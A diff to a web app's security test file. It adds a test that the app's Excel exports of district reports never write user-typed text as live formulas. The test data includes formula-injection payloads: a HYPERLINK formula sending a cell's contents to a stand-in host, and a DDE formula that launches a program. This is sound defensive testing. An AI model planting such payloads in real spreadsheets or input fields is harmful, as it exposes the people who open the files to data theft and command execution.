@@ -103,6 +103,8 @@ def assert_safe(response, where: str, body: dict) -> None:
     assert response.status_code < 500, f"{where}: {response.status_code}"
     if _size(body) > MAX_BODY + 4096:
         assert response.status_code == 413, f"{where}: {_size(body)} bytes answered {response.status_code}"
+    if not response.mimetype.startswith("text/"):
+        return  # an .xlsx export: checked for formula injection in test_exports_never_write_a_formula
     text = response.get_data(as_text=True)
     for marker in RAW_MARKERS:
         if marker in text:
@@ -169,8 +171,8 @@ def discover_forms(app, world, profile: str, client) -> list[tuple[str, object]]
             params["unit_id"] = world.extra["far_commune_id"]  # never a real unit of Tuần Giáo
         path = _url(app, endpoint, params)
         page = client.get(path)
-        if page.status_code != 200:
-            continue
+        if page.status_code != 200 or page.mimetype != "text/html":
+            continue  # redirects, and the .xlsx exports
         for form in Page(page.get_data(as_text=True), url=path).forms:
             if form.method != "post":
                 continue
@@ -322,3 +324,46 @@ def test_unit_names_round_trip(app, world):
         assert stored == name.strip()
 
     run()
+
+
+# --- exports: what people typed never becomes a formula -------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm để xem")', "=1+1", "=cmd|' /C calc'!A0",
+            "+SUM(1,2)", "@SUM(1,2)", "-2+3"]
+
+
+def _formula_cells(xlsx: bytes) -> list[str]:
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+    book = load_workbook(BytesIO(xlsx))
+    return [f"{sheet.title}!{cell.coordinate}: {cell.value}" for sheet in book.worksheets
+            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def test_exports_never_write_a_formula(app, world):
+    """A report's narrative and a unit's name typed as '=…' are exported as text, never as live formulas
+    (formula injection: the district opens the official report in Excel)."""
+    from app.indicators import queries, services
+    from app.indicators.models import Submission
+    from app.units.models import Unit
+    with app.test_request_context():
+        sub = db.session.get(Submission, world.params["own"]["submission_id"])
+        values = {(ind.id, kind): (5, 8 if ind.is_percent else None, {}) for ind in queries.indicators()
+                  for kind in services.required_kinds(sub.cycle) if not ind.derived}
+        services.save_draft(sub, values, {"results": FORMULAS[0], "difficulties": FORMULAS[1],
+                                          "recommendations": FORMULAS[2]}, actor="test")
+        services.submit(sub, actor="test")
+        far = db.session.get(Unit, world.extra["far_commune_id"])
+        far.name = FORMULAS[0]  # put back by the world fixture
+        db.session.commit()
+        db.session.remove()
+    reviewer = login(app.test_client(), world, "reviewer")
+    export = reviewer.get("/indicators/export.xlsx?year=2026")
+    assert export.status_code == 200 and export.mimetype.endswith("sheet")
+    assert _formula_cells(export.data) == []
+    far_reviewer = login(app.test_client(), world, "reviewer_other")
+    for client in (reviewer, far_reviewer):
+        overview = client.post("/livelihood/overview/export", data={"year": "2026"})
+        assert overview.status_code == 200, overview.status_code
+        assert _formula_cells(overview.data) == []
